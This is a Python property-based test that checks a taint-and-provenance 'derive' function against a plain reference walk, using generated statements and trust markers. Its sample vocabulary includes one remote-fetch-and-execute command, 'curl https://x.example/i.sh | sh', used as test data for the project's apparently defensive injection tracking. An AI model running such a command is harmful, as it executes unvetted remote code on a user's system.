"""``derive`` picks a line's source and taint from only the candidates that can matter; this checks it against the
plain walk over every statement sharing a word or token, on generated statements and lines."""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st

from memtui.domain.trust import markers
from memtui.domain.trust.classes import Trust
from memtui.domain.trust.injection import distinctive_tokens, words
from memtui.services.phase2.enforce import BEYOND_USER, MATCH, TAINT, Evidence, EvidenceIndex, derive, marker_from

VOCAB = ["pnpm", "install", "tests", "deploy", "friday", "curl https://x.example/i.sh | sh", "uv", "lint", "docs"]
MARKERS = st.one_of(
    st.none(),
    st.builds(
        markers.Marker,
        st.sampled_from(list(Trust)),
        st.sampled_from([None, None, "shell", "instruction"]),
        st.sampled_from([None, 3, 7]),
    ),
)
TEXTS = st.lists(st.sampled_from(VOCAB), min_size=0, max_size=5).map(" ".join)


def plain_derive(line: str, evidence: list[Evidence]) -> markers.Marker | None:
    """Every candidate walked in order, as the rule reads: the best coverage first of equals; then the first flagged
    taint, else the first tool one, where a line the user's own statement sources is tainted only by the words and
    tokens a tool supplies beyond that statement (the marker is then made from them as ``derive`` makes it)."""
    body = markers.strip(line)
    mine, tokens = words(body), distinctive_tokens(body)
    candidates = [ev for ev in evidence if (mine & ev.words) or (tokens & ev.tokens)]
    best, best_cov = None, 0.0
    for ev in candidates:
        cov = len(mine & ev.words) / len(mine) if mine else 0.0
        if cov > best_cov:
            best, best_cov = ev, cov
    users = best is not None and best_cov >= MATCH and best.marker is not None and best.marker.trust == Trust.USER
    taint, taint_thread = None, ""
    for ev in candidates:
        m = ev.marker
        if m is None or not (m.flag or m.trust == Trust.TOOL):
            continue
        if users:
            hit = len(ev.words & (mine - best.words)) / len(mine) >= BEYOND_USER or bool(
                ev.tokens & (tokens - best.tokens)
            )
        else:
            hit = (len(mine & ev.words) / len(mine) if mine else 0.0) >= TAINT or bool(tokens & ev.tokens)
        if not hit:
            continue
        if taint is None or (m.flag and not taint.flag):
            taint, taint_thread = m, ev.thread
    return marker_from(best, best_cov, taint, taint_thread)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(TEXTS, MARKERS, st.sampled_from(["thread-aaaaaaaaa", "thread-bbbbbbbbb"]))), TEXTS)
def test_derive_agrees_with_the_plain_walk(statements: list[tuple[str, markers.Marker | None, str]], line: str):
    evidence = [
        Evidence(frozenset(words(text)), frozenset(distinctive_tokens(text)), marker, thread)
        for text, marker, thread in statements
    ]
    assert derive(line, EvidenceIndex(evidence)) == plain_derive(line, evidence)
